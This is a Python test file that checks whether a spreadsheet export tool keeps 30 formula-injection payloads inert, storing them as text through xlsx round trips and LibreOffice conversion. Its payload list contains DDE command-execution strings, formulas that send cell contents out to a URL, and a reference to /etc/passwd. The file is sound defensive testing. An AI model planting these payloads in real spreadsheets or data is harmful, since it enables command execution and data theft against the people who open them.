"""Texts that spreadsheets would compute stay texts, there and back."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.cli.terminal import Terminal
from tests.sheet.blocks import Edited, document, write_files
from tests.sheet.test_saved_elsewhere import NOW, assert_unchanged, needs_office, office

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?x="&A1,"Click")',
    '=WEBSERVICE("https://example.com/"&A1)',
    '=IMPORTXML(CONCAT("https://example.com/?v=",CONCATENATE(A2:E2)),"//a")',
    '=IMPORTDATA("https://example.com/x.csv")',
    '=IMAGE("https://example.com/x.png")',
    '=DDE("cmd";"/C calc";"x")',
    "=10+20+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "=A1",
    "=SUM(A1:A9)",
    "=Lists!A1",
    "='file:///etc/passwd'#$passwd.A1",
    '=INDIRECT("A1")',
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    "{=1+1}",
)


def test_there_are_thirty() -> None:
    assert len(set(PAYLOADS)) == 30


@pytest.fixture
def plan(tmp_path: Path, terminal: Terminal) -> Path:
    """Thirty learners bear a payload as a name, a clinic and an instructor too."""
    cohort = document()
    for learner, payload in zip(cohort["learners"], PAYLOADS, strict=False):
        learner["name"] = payload
    cohort["clinics"][0]["title"] = cohort["instructors"][0]["name"] = PAYLOADS[1]
    plan = write_files(tmp_path, cohort)
    assert terminal("sheet", plan).code == 0
    return plan


def test_inert_there_and_back(plan: Path, terminal: Terminal) -> None:
    sheet = plan.with_suffix(".xlsx")
    with zipfile.ZipFile(sheet) as packed:
        for name in packed.namelist():
            if name.startswith("xl/worksheets/"):
                content = packed.read(name)
                assert b"<f>" not in content
                assert b"<f " not in content
        assert not [name for name in packed.namelist() if "external" in name.casefold()]
    names = {cell.value: cell.data_type for cell in load_workbook(sheet)["People"]["B"]}
    assert {payload: names.get(payload) for payload in PAYLOADS} == dict.fromkeys(PAYLOADS, "s")
    assert_unchanged(plan, terminal)


def test_named_in_answers_and_reasons(plan: Path, terminal: Terminal) -> None:
    """A payload as a reason is kept as it was typed, and shown again as text."""
    sheet = plan.with_suffix(".xlsx")
    edited = Edited(sheet)
    edited.cell("Rosters", "a1 lab-a", "Mark").value = "lock"
    cell = edited.cell("Rosters", "a1 lab-a", "Why")
    cell.value, cell.data_type = PAYLOADS[2], "s"
    edited.save()
    assert terminal("sheet", plan, "--read", sheet, "--now", NOW).code == 0
    decisions = json.loads((plan.parent / "cohort.json").read_text(encoding="utf-8"))["decisions"]
    assert decisions[-1]["why"] == PAYLOADS[2]
    assert terminal("sheet", plan).code == 0
    again = Edited(sheet).cell("Rosters", "a1 lab-a", "Why")
    assert (again.value, again.data_type, again.quotePrefix) == (PAYLOADS[2], "s", True)


@needs_office
def test_libreoffice_computes_none(plan: Path, terminal: Terminal, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    sheet = plan.with_suffix(".xlsx")
    office(tmp_path, sheet, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,4", out)
    with (out / "plan-People.csv").open(encoding="utf-8", newline="") as file:
        shown = {row[1] for row in csv.reader(file)}
    assert set(PAYLOADS) <= shown
    office(tmp_path, sheet, "xlsx", out)
    sheet.write_bytes((out / "plan.xlsx").read_bytes())
    assert_unchanged(plan, terminal)
